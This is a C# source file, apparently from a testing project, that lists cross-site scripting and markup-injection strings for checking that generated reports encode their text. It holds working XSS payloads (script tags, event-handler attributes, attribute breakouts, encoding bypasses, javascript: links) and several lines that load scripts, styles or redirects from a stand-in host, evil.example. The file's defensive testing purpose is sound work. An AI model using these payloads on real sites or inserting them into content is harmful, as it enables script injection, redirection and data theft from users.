namespace MedBench.Chaos;

/// <summary>Texts that become markup, script, links or attributes where a report forgets to encode them.</summary>
internal static class InjectionPayloads
{
    public static IReadOnlyList<string> All { get; } =
    [
        // Elements of HTML
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.example></sCrIpT>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//",
        "<svg/onload=alert(1)>", "<svg><script xlink:href=data:,alert(1) />", "<iframe srcdoc='<script>alert(1)</script>'>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href=https://evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>",
        "<form action=//evil.example><input name=x>", "<object data=data:text/html,x>", "<math><mi xlink:href=javascript:alert(1)>", "<template><b>", "<plaintext>", "<textarea><b>", "<xmp><b></xmp>", "<noscript><b>",
        // Ways out of where the text stands
        "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "` onclick=`alert(1)", "\"><svg onload=alert(1)>", "'><b>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "</text></svg><foreignObject><body onload=alert(1)>", "</td></tr></table><form>", "</main></body></html><b>", "<!-- ", "--><b>", "]]><b>", "<![CDATA[<b>]]>", "<?php echo 1 ?>", "<!DOCTYPE x>",
        // Encodings that undo themselves
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "\\u003cscript\\u003e", "%3Cscript%3E", "+ADw-script+AD4-", "\uFF1Cscript\uFF1E", "<\u0000script>", "\u202e<b>\u2066", "a\r\n<b>\u2028x",
        // Markup of Markdown
        "[x](javascript:alert(1))", "![x](https://evil.example/p.png)", "<https://evil.example>", "https://evil.example/x", "www.evil.example", "mailto:x@evil.example", "[x]: javascript:alert(1)", "[x][x]", "[^1]", "- [ ] x",
        "**x** __x__ *x* _x_ ~~x~~ ~x~ ^x^ ++x++ ==x==", "`x` ``x``", "x | y | z", "\\| \\\\| x", "\n\n# x\n\n| a |\n|---|\n", "\n```\nx\n```\n", "$x$ $$x$$", ":smile: :warning:", "x {onclick=alert(1) .c #i}", "&copy; \\", "1. x\n2. y", "---", "||spoiler||", "@everyone",
    ];
}
